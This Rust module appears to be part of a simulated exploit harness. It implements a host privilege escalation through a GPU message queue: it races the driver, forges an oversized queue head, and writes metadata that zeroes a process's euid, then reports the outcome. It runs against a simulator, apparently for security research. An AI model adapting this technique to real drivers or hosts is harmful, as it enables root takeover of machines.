//! Host privilege escalation through the GSP message queue, using the
//! host-memory window obtained from the page-table attack.

use serde::{Deserialize, Serialize};
use vramsim::host_driver::{
    build_entry, meta_off, scan_expected_seq, DriverState, KernelState, MsgqMetadata, CRED_ADDR, ENTRY_SIZE,
    EUID_OFFSET, QUEUE_ENTRIES, QUEUE_OFFSET, STAGING_ENTRIES,
};
use vramsim::{Guest, HostAddr, Simulator};

use crate::engine::{AttackError, HostDma};

/// Elements in the forged message: one more than the staging buffer holds.
pub const FORGED_ELEMENTS: u32 = STAGING_ENTRIES + 1;

#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct PrivescConfig {
    /// Flush callback written into the metadata; anything unregistered
    /// crashes the driver right after the credential write.
    pub fcn_flush: u64,
    pub max_attempts: u32,
}

impl Default for PrivescConfig {
    fn default() -> Self {
        PrivescConfig {
            fcn_flush: 0xdead_0000_dead_0000,
            max_attempts: 64,
        }
    }
}

/// Metadata that makes the read-pointer write-back store 0 over the euid.
pub fn payload_metadata(fcn_flush: u64) -> MsgqMetadata {
    MsgqMetadata {
        p_read_outgoing: CRED_ADDR + EUID_OFFSET,
        rx_read_ptr: 0xFFFF_FFF9,
        msg_count: 10,
        fcn_backend_rw: 0,
        fcn_flush,
        ..Default::default()
    }
}

#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct PrivescOutcome {
    pub euid_before: u32,
    pub euid_after: u32,
    pub attempts: u32,
    /// Attempts where the driver ran before the forged head was in place.
    pub race_losses: u32,
    pub injected_seq: Option<u32>,
    pub head_index: Option<u32>,
    pub success: bool,
}

/// Floods the queue, forges a 17-element head and lets the driver consume it.
pub fn escalate(g: &mut Guest, dma: &mut HostDma, cfg: &PrivescConfig) -> Result<PrivescOutcome, AttackError> {
    let queue = HostAddr(dma.iova_base + QUEUE_OFFSET);
    let mut out = PrivescOutcome {
        euid_before: g.geteuid(),
        ..Default::default()
    };
    let mut payload_page = vec![0u8; ENTRY_SIZE as usize];
    payload_page[..meta_off::LEN].copy_from_slice(&payload_metadata(cfg.fcn_flush).to_bytes());

    while out.attempts < cfg.max_attempts {
        out.attempts += 1;
        g.yield_to_driver();
        let dump = dma.read(g, queue, QUEUE_ENTRIES as u64 * ENTRY_SIZE)?;
        let scan = scan_expected_seq(&dump).expect("whole queue dump");
        let mut woke = false;
        for _ in 0..FORGED_ELEMENTS {
            woke |= g.device_attribute_query();
        }
        if woke {
            out.race_losses += 1;
            continue;
        }
        let head = build_entry(scan.expected_seq, FORGED_ELEMENTS, &[]);
        dma.write(g, queue.offset(scan.head_index as u64 * ENTRY_SIZE), &head)?;
        dma.write(g, queue.offset(scan.payload_index as u64 * ENTRY_SIZE), &payload_page)?;
        out.injected_seq = Some(scan.expected_seq);
        out.head_index = Some(scan.head_index);
        g.yield_to_driver();
        if g.geteuid() == 0 {
            out.success = true;
            break;
        }
        out.race_losses += 1;
    }
    out.euid_after = g.geteuid();
    Ok(out)
}

/// Ground-truth view of the host after an escalation attempt.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct PrivescReport {
    pub euid_before: u32,
    pub euid_after: u32,
    pub attempts: u32,
    pub race_losses: u32,
    pub driver_state: DriverState,
    pub kernel_state: KernelState,
    /// Queue metadata still describes a 63-entry ring.
    pub queue_consistent: bool,
    /// Kernel alive but with corrupted queue bookkeeping.
    pub unstable: bool,
    pub callbacks: Vec<String>,
    pub panic_reason: Option<String>,
    pub success: bool,
}

impl PrivescReport {
    pub fn from_simulator(sim: &Simulator, o: &PrivescOutcome) -> Self {
        let d = sim.driver();
        let meta = d.metadata();
        let queue_consistent = meta.msg_count == QUEUE_ENTRIES && meta.rx_read_ptr < QUEUE_ENTRIES;
        PrivescReport {
            euid_before: o.euid_before,
            euid_after: d.euid(),
            attempts: o.attempts,
            race_losses: o.race_losses,
            driver_state: d.kernel.driver_state,
            kernel_state: d.kernel.kernel_state,
            queue_consistent,
            unstable: d.kernel.driver_state == DriverState::Alive && !queue_consistent,
            callbacks: d
                .kernel
                .calls
                .iter()
                .map(|c| match d.kernel.function_name(c.addr) {
                    Some(n) => n.to_string(),
                    None => format!("{:#x}", c.addr),
                })
                .collect(),
            panic_reason: d.kernel.panic_reason.clone(),
            success: o.success && d.euid() == 0,
        }
    }
}
